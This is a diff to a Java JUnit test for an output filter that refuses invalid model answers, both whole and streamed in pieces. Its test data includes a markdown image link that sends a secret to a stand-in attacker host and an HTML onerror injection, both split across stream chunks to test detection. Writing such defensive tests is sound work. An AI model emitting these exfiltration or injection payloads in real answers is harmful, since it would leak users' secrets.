@@ -11,6 +11,8 @@ import java.nio.charset.StandardCharsets;
 import java.util.Map;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 /** Actions and tools, as clients see what becomes of them. */
 class OutputFilterTest {
@@ -107,5 +109,39 @@ class OutputFilterTest {
                 .isEqualTo(403);
         assertThat(server.post("/?type=application/json", JSON, refund).statusCode())
                 .isEqualTo(403);
+    }
+
+    /** What a client sees of an answer that streams, though the connection breaks. */
+    private String streamed(String answer) throws Exception {
+        return server.raw("POST /?type=text/event-stream HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
+                + "Content-Length: " + answer.getBytes(StandardCharsets.UTF_8).length + "\r\nConnection: close\r\n\r\n"
+                + answer);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "links | docs.example.com | see https://docs.example.com/a now | ![x](https://ev|il.example/?q=s3cret)",
+                "html | false | a < b and more | <im|g src=x onerror=s3cret()>",
+                "length | 20 | short enough | s3cret that is |much longer than that",
+                "code | false | use `x` here | ``|`\\ns3cret\\n```"
+            })
+    void boundaries_holdForAnswersWholeAndStreamed(String name, String value, String good, String begun, String rest)
+            throws Exception {
+        start(Map.of(name, value));
+        String whole = "{\"text\":\"%s\"}";
+        assertThat(server.post("/?type=application/json", JSON, whole.formatted(good))
+                        .body())
+                .isEqualTo(whole.formatted(good));
+        var refused = server.post("/?type=application/json", JSON, whole.formatted(begun + rest));
+        assertThat(refused.statusCode()).isEqualTo(502);
+        assertThat(refused.body()).contains("answer-invalid").doesNotContain("s3cret", "evil");
+
+        String stream = "data: {\"text\":\"%s\"}\n\ndata: {\"text\":\"%s\"}\n\ndata: [DONE]\n\n";
+        assertThat(streamed(stream.formatted(good, " "))).contains(good, "DONE").doesNotContain("event: error");
+        assertThat(streamed(stream.formatted(begun, rest)))
+                .contains("event: error", "answer-invalid")
+                .doesNotContain("DONE", "il.example", "onerror", "much longer", "ns3cret");
     }
 }
